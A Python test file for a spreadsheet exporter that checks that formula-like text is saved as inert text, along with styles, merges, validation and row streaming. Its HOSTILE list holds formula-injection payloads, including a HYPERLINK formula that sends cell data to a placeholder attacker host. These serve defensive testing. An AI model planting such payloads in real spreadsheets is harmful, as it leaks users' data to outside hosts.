"""The XLSX writer of every export: formula-like text stays text, the values, styles and
sheet settings come back as written (read back with openpyxl)."""

from __future__ import annotations

from datetime import date, datetime
from io import BytesIO

import pytest
from openpyxl import Workbook as OpenBook
from openpyxl import load_workbook

from web.xlsx import MAX_TEXT, SPOOL_BYTES, Style, Styled, Workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def _saved(book: Workbook) -> OpenBook:
    out = BytesIO()
    book.save(out)
    return load_workbook(BytesIO(out.getvalue()))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_stays_text(text):
    book = Workbook()
    book.add_sheet("表").append(["说明", text, Styled(text, Style(bold=True))])
    sheet = _saved(book).active
    for cell in (sheet["B1"], sheet["C1"]):
        # a CR is written as a character reference: the text comes back exactly, as text
        assert cell.data_type == "s" and cell.value == text
        assert cell.quotePrefix
    assert sheet["C1"].font.b  # the quote prefix joins the cell's own style
    assert not sheet["A1"].quotePrefix


def test_numbers_and_plain_text_are_left_alone():
    book = Workbook()
    sheet = book.add_sheet("表")
    sheet.append([-1, -2.5, 0, "普通文本", None, date(2026, 11, 2), "a=b", True])
    sheet.append(())
    sheet.append(["=1", datetime(2026, 11, 2, 18, 0), "  两端有空格 ", 'a<b&c>"d"'])
    read = _saved(book).active
    row = read[1]
    assert [c.data_type for c in row[:4]] == ["n", "n", "n", "s"]
    assert [c.value for c in row[:4]] == [-1, -2.5, 0, "普通文本"]
    assert row[4].value is None and row[5].is_date and row[6].value == "a=b"
    assert row[5].value == datetime(2026, 11, 2) and row[7].value is True
    assert not any(c.quotePrefix for c in row)
    assert read["A2"].value is None  # the empty row stays a row
    assert read["A3"].data_type == "s" and read["A3"].value == "=1"
    assert read["B3"].value == datetime(2026, 11, 2, 18, 0)
    assert read["C3"].value == "  两端有空格 " and read["D3"].value == 'a<b&c>"d"'


def test_characters_xml_cannot_carry_are_dropped():
    book = Workbook()
    book.add_sheet("表").append(["分\x0b页\x00符\x1f", "换行\n保留"])
    read = _saved(book).active
    assert [c.value for c in read[1]] == ["分页符", "换行\n保留"]


def test_a_text_longer_than_a_cell_holds_is_cut():
    # Excel refuses a file whose cell holds more (a unit urged for hundreds of items)
    book = Workbook()
    book.add_sheet("表").append(["事" * (MAX_TEXT + 10), "事" * MAX_TEXT])
    cut, whole = _saved(book).active[1]
    assert len(cut.value) == MAX_TEXT and cut.value.endswith("…")
    assert whole.value == "事" * MAX_TEXT


def test_styles_widths_merges_frozen_rows_comments_and_choices():
    book = Workbook()
    sheet = book.add_sheet("数据")
    sheet.widths([6, 24], first=2)
    sheet.column_style(3, Style(number_format="@"))
    sheet.freeze_rows(1)
    sheet.append(
        [
            Styled("标题", Style(bold=True, size=14)),
            Styled("表头", Style(bold=True, fill="DDE5F0", horizontal="center")),
            Styled(0.256, Style(number_format="0.0%")),
            Styled("折行", Style(wrap=True, vertical="top")),
            Styled(date(2026, 11, 2), Style(bold=True)),  # a date keeps its date format
        ],
        height=48,
    )
    sheet.merge(2, 1, 2, 4)
    sheet.comment(1, 2, "必填：单位名称", width=260, height=110)
    sheet.choices("C2:C100", ["是", "否"])
    book.add_sheet("空表")
    read = _saved(book)
    data, empty = read.worksheets
    assert data.title == "数据" and empty.title == "空表" and empty.max_row == 1
    title, head, rate, wrapped, day = data[1]
    assert day.is_date and day.font.b and day.value == datetime(2026, 11, 2)
    assert title.font.b and title.font.sz == 14
    assert head.font.b and head.fill.fgColor.rgb == "FFDDE5F0"
    assert head.alignment.horizontal == "center"
    assert rate.value == 0.256 and rate.number_format == "0.0%"
    assert wrapped.alignment.wrap_text and wrapped.alignment.vertical == "top"
    assert data.row_dimensions[1].height == 48
    assert data.column_dimensions["B"].width == 6 and data.column_dimensions["C"].width == 24
    assert data.column_dimensions["C"].number_format == "@"
    assert [str(r) for r in data.merged_cells.ranges] == ["A2:D2"]
    assert data.freeze_panes == "A2"
    assert head.comment is not None and head.comment.text == "必填：单位名称"
    (offered,) = data.data_validations.dataValidation
    assert str(offered.sqref) == "C2:C100" and offered.formula1 == '"是,否"'
    assert offered.allow_blank and not offered.showErrorMessage  # offers, refuses nothing


def test_rows_past_the_spool_come_back_in_order():
    # a sheet past SPOOL_BYTES goes on in a temporary file: every row is still there, in order
    book = Workbook()
    sheet = book.add_sheet("长表")
    filler = "长" * 200
    rows = SPOOL_BYTES // len(filler.encode()) + 100
    for n in range(rows):
        sheet.append([n, filler])
    out = BytesIO()
    book.save(out)
    read = load_workbook(BytesIO(out.getvalue()), read_only=True).active
    numbers = [n for n, _ in read.iter_rows(values_only=True)]
    assert numbers == list(range(rows)) and sheet.rows == rows


def test_the_streamed_bulletin_workbook_keeps_text_styles_and_rates() -> None:
    # The bulletin's rows are streamed (none kept): hostile text still lands as text, the
    # heads are bold and the rates keep their percent format.
    from web.bulletin_export import render_xlsx

    row = {
        "rank": 1,
        "unit_id": 1,
        "unit_code": "A",
        "unit_name": HOSTILE[0],
        "role": "lead",
        "assigned": 2,
        "closed_in_period": 1,
        "closed_on_time": 1,
        "closed_late": 0,
        "open_overdue": 1,
        "overdue": 1,
        "extensions": 0,
        "on_time_rate": 0.5,
    }
    late = {
        "ref": "+1",
        "title": "@SUM(1)",
        "unit_name": "甲",
        "due_on": "2026-11-03",
        "days_overdue": 4,
        "closed_late": False,
        "role_label": "主办",
    }
    data = {
        "version": 2,
        "period": "2026-11",
        "period_label": "2026年11月",
        "as_of": "2026-11-30",
        "rows": [row],
        "unranked": [],
        "totals": {
            "assigned": 2,
            "closed_in_period": 1,
            "closed_on_time": 1,
            "overdue": 1,
            "extensions": 0,
            "on_time_rate": None,
        },
        "praised_units": [],
        "urged_units": ["甲"],
        "urged": [{"unit_name": "甲", "overdue": 1, "days_overdue": 4, "items": [late]}],
        "overdue_items": [late],
    }
    book = load_workbook(BytesIO(render_xlsx(data, office_name="某市")))
    sheet = book["通报"]
    assert sheet["A1"].value == "某市督查通报" and sheet["A1"].font.b
    cells = {c.value: c for r in sheet.iter_rows() for c in r if c.value is not None}
    assert cells[HOSTILE[0]].data_type == "s"
    assert cells["排名"].font.b and cells[0.5].number_format == "0.0%"
    assert cells["合计"].font.b and "—" in cells
    listed = [[c.value for c in r] for r in book["逾期事项"].iter_rows()]
    assert listed[1][:2] == ["+1", "@SUM(1)"]
    ref, title, *_ = next(book["逾期事项"].iter_rows(min_row=2))
    assert ref.data_type == title.data_type == "s"
